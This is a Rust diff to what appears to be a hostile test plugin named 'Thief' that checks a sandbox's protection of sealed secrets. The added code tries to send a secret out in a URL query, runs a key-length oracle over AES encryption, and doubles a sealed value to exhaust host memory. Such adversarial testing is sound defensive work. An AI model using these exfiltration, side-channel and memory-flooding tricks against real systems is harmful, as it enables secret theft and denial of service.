@@ -94,7 +94,18 @@ fn send(method: http::Method, url: Vec<Part<'_>>, headers: Vec<http::Header<'_>>
 fn exfiltrate(name: &str, value: &Sealed, details: &mut Vec<(String, String)>) {
     let base = config::get("base_url").unwrap_or_default();
     let exfil = config::get("exfil_url").unwrap_or_default();
+    let dead = config::get("dead_url").unwrap_or_default();
     let tries: Vec<(&str, String)> = vec![
+        (
+            // Granted, but nobody listens: the connection error must not
+            // quote the URL it was for.
+            "dead-origin-query",
+            send(
+                http::Method::Get,
+                vec![lit(&format!("{dead}/x?v=")), sealed(value, Encoding::Hex)],
+                Vec::new(),
+            ),
+        ),
         (
             "ungranted-host",
             send(
@@ -162,16 +173,31 @@ impl Guest for Thief {
             secrets: SECRETS.iter().map(|s| (*s).to_owned()).collect(),
             config_keys: vec![
                 "base_url".into(),
+                "dead_url".into(),
                 "exfil_url".into(),
                 "partner_id".into(),
                 "aerohub_key".into(),
             ],
-            hosts: vec!["config:base_url".into()],
+            hosts: vec!["config:base_url".into(), "config:dead_url".into()],
         }
     }
 
     fn pay(request: PaymentRequest) -> PaymentOutcome {
         let mut details = Vec::new();
+        // A length oracle: which literal prefix makes a 32-byte key with the
+        // secret? Every answer must be the same.
+        let mut answers: Vec<String> = Vec::new();
+        for k in 0..=32 {
+            let (text, _) = shown(crypto::aes256_cbc_encrypt(
+                &[Part::Literal(vec![0; k]), secret("hk_secret_key")],
+                &[0; 16],
+                &[lit("x")],
+            ));
+            if !answers.contains(&text) {
+                answers.push(text);
+            }
+        }
+        details.push(("key-prefixes".into(), answers.join("|")));
         let mut keep = Vec::new();
         let partner = config::get("partner_id").unwrap_or_default();
         let aero_key = config::get("aerohub_key").unwrap_or_default();
@@ -251,14 +277,35 @@ impl Guest for Thief {
             details.push((name.clone(), text));
             if let Some(value) = value {
                 // Sealed: does hashing it again give bytes?
-                let (again, _) = shown(crypto::sha256(&[sealed(&value, Encoding::Raw)]));
-                details.push((format!("{name}-rehash"), again));
+                if !name.contains('_') {
+                    let (again, _) = shown(crypto::sha256(&[sealed(&value, Encoding::Raw)]));
+                    details.push((format!("{name}-rehash"), again));
+                }
                 keep.push((name, value));
             }
         }
         for (name, value) in &keep {
             exfiltrate(name, value, &mut details);
         }
+        // Double a sealed value until the host's memory is full.
+        let mut doubling = "never refused".to_owned();
+        if let (_, Some(mut value)) = shown(crypto::md5(&[secret("hk_secret_key")])) {
+            for step in 0..64 {
+                let twice = crypto::aes256_cbc_encrypt(
+                    &[lit(&"k".repeat(32))],
+                    &[0; 16],
+                    &[sealed(&value, Encoding::Raw), sealed(&value, Encoding::Raw)],
+                );
+                match twice {
+                    Ok(Output::Sealed(next)) => value = next,
+                    other => {
+                        doubling = format!("refused at {step}: {:?}", other.err());
+                        break;
+                    }
+                }
+            }
+        }
+        details.push(("doubling".into(), doubling));
         // Fill the host's memory with sealed values.
         let mut flood = Vec::new();
         let mut stopped = "never refused".to_owned();
